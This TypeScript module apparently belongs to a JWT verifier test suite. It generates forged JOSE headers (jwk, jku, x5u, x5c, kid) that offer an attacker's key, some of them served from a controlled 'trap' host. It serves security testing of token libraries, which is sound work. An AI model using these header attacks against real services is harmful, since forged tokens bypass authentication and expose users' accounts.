/**
 * JOSE headers that offer a key to whoever verifies (RFC 7515, section 4.1): the
 * attacker's key inside the token, or the address where it can be had.
 *
 * @module
 */

import { certificatePem, createCertificate } from './certificate.ts';
import type { JsonObject } from './json.ts';
import type { SigningKey } from './keys.ts';
import type { Trap } from './trap.ts';

/**
 * Ways to offer the attacker's key. The token is signed with it, so a client that
 * takes the offer accepts the token. `-first` and `-last` say where the attacker
 * stands in a list that also holds the honest key.
 */
export const keyHeaderAttacks = [
  'jwk',
  'jwk-with-jku',
  'jwk-as-url',
  'jku',
  'jku-attacker-first',
  'jku-attacker-last',
  'x5u',
  'x5c',
  'x5c-attacker-first',
  'x5c-attacker-last',
  'kid-as-url',
  'kid-as-jwk',
] as const;

/** One of {@link keyHeaderAttacks}. */
export type KeyHeaderAttack = (typeof keyHeaderAttacks)[number];

/** The two keys and the host that serves the attacker's. */
export interface KeyHeaderParts {
  readonly honest: SigningKey;
  readonly attacker: SigningKey;
  readonly trap: Trap;
}

function certificateOf(key: SigningKey, commonName: string): Buffer {
  return createCertificate({
    commonName,
    publicKey: key.publicKey,
    signedBy: { commonName, privateKey: key.privateKey },
  });
}

/** The key the trap hands out, and where. */
function served(path: string, { trap, keys }: { trap: Trap; keys: readonly SigningKey[] }): string {
  trap.serve(path, { keys: keys.map((key) => key.jwk) });
  return `${trap.url}${path}`;
}

function servedKey({ trap, attacker }: KeyHeaderParts): string {
  trap.serve('/key.json', attacker.jwk);
  return `${trap.url}/key.json`;
}

function servedCertificate({ trap, attacker }: KeyHeaderParts): string {
  trap.serve('/certificate.pem', certificatePem(certificateOf(attacker, 'attacker')));
  return `${trap.url}/certificate.pem`;
}

/** The header members of an attack; what they point at is served by the trap from now on. */
export function keyHeadersFor(attack: KeyHeaderAttack, parts: KeyHeaderParts): JsonObject {
  const { honest, attacker, trap } = parts;
  const chain = (...keys: readonly SigningKey[]) => keys.map((key) => certificateOf(key, key.kid).toString('base64'));
  switch (attack) {
    case 'jwk':
      return { jwk: attacker.jwk };
    case 'jwk-with-jku':
      return {
        jwk: { ...honest.jwk, jku: served('/keys.json', { trap, keys: [attacker] }), x5u: servedCertificate(parts) },
      };
    case 'jwk-as-url':
      return { jwk: servedKey(parts) };
    case 'jku':
      return { jku: served('/keys.json', { trap, keys: [attacker] }) };
    case 'jku-attacker-first':
      return { jku: served('/keys-first.json', { trap, keys: [attacker, honest] }) };
    case 'jku-attacker-last':
      return { jku: served('/keys-last.json', { trap, keys: [honest, attacker] }) };
    case 'x5u':
      return { x5u: servedCertificate(parts) };
    case 'x5c':
      return { x5c: chain(attacker) };
    case 'x5c-attacker-first':
      return { x5c: chain(attacker, honest) };
    case 'x5c-attacker-last':
      return { x5c: chain(honest, attacker) };
    case 'kid-as-url':
      return { kid: servedKey(parts) };
    case 'kid-as-jwk':
      return { kid: JSON.stringify(attacker.jwk) };
  }
}
